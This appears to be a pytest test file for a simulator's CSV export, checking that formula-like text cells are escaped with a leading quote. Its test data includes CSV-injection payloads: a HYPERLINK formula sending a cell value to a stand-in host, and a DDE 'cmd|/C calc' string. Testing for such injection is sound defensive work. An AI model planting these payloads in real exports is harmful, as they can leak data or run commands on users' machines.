"""summary.csv: text a spreadsheet would evaluate is neutralised; numbers stay numbers."""

from __future__ import annotations

import csv

import pandas as pd
from texts import TINY

from simulator.cli import main
from simulator.output import csv_safe

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "@SUM(1+1)*cmd|/C calc!A0",
            "+1+1", "-2+3", "\tTAB", "\rCR"]


def test_formula_names_are_text_in_summary_csv(write, tmp_path, capsys):
    text = TINY
    for k, (old, new) in enumerate([("name: Sentral forskrivingsmodul", FORMULAS[0]),
                                    ("name: Pasientens legemiddelliste", FORMULAS[1])]):
        text = text.replace(old, f"name: '{new}'")
    text = text.replace("      - id: sfm-utvikling\n", "      - id: sfm-utvikling\n        name: '+1+1'\n")
    path = write(text, "formula.yaml")
    assert main(["run", str(path), "-n", "300", "--seed", "1", "--out", str(tmp_path / "o"),
                 "--no-report"]) == 0
    with open(tmp_path / "o" / "summary.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    by_id = {r["id"]: r for r in rows}
    assert by_id["sfm"]["name"] == "'" + FORMULAS[0]
    assert by_id["pll"]["name"] == "'" + FORMULAS[1]
    assert by_id["sfm-utvikling"]["name"] == "'+1+1"
    for r in rows:  # no text cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values() if v)
    # numbers and dates are untouched
    frame = pd.read_csv(tmp_path / "o" / "summary.csv", index_col="id")
    assert pd.api.types.is_float_dtype(frame["finish_p50"])
    assert frame.loc["pll", "finish_date_p50"][:2] == "20"


def test_csv_safe_leaves_numbers_and_ordinary_text():
    frame = pd.DataFrame({"name": ["ok", "-neg", "=f", None, "a=b"], "x": [-1.5, 2.0, -3.0, 0.0, 1.0]},
                         index=pd.Index(["a", "b", "c", "d", "@e"], name="id"))
    out = csv_safe(frame)
    names = out["name"].tolist()
    assert names[:3] + names[4:] == ["ok", "'-neg", "'=f", "a=b"] and pd.isna(names[3])
    assert out["x"].tolist() == [-1.5, 2.0, -3.0, 0.0, 1.0]
    assert out.index.tolist() == ["a", "b", "c", "d", "'@e"] and out.index.name == "id"
    assert frame["name"].tolist()[1] == "-neg"  # the input is not changed
